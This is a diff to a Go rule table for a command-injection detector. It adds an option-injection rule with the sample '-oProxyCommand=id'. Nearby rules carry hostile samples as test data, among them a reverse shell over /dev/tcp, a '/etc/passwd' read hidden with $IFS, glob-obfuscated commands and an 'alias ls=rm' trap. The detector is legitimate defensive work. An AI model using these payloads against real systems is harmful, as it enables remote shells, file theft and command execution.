@@ -73,6 +73,7 @@ var Rules = []Rule{
 	{"cmdi-shell", CommandInj, 1, 9, "a shell, interpreter or download piped to one (bash -i, curl | sh, nc -e)", ex("query", "cmd", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), ex("body", "comment", "I use bash at work")},
 	{"cmdi-ifs", CommandInj, 1, 8, "$IFS or ${IFS} used as a blank", ex("query", "host", "cat${IFS}/etc/passwd"), ex("body", "comment", "the IFS variable")},
 	{"cmdi-batch", CommandInj, 1, 7, "Windows cmd syntax (IF EXIST, FOR /F, cmd /c)", ex("query", "x", `if exist c:\windows\win.ini echo x`), ex("body", "comment", "if it exists, echo it")},
+	{"cmdi-option-injection", CommandInj, 1, 7, "an option (-x, --name) where a host name or address is expected, which the tool it is passed to reads as its own (-oProxyCommand=..., --help)", ex("query", "host", "-oProxyCommand=id"), ex("query", "host", "db-1.example.com")},
 	{"cmdi-expansion", CommandInj, 1, 7, "shell expansion syntax ($[...], ~+, history events)", ex("query", "x", "$[1+1]"), ex("body", "price", "costs $5 (tax incl.)")},
 	{"cmdi-glob", CommandInj, 1, 8, "a command written with globs (/???/c?t)", ex("query", "host", "/???/c?t /???/p??s??"), ex("body", "comment", "what? why?")},
 	{"cmdi-alias", CommandInj, 1, 6, "a shell alias definition", ex("query", "x", "alias ls=rm"), ex("body", "comment", "an alias for the product")},
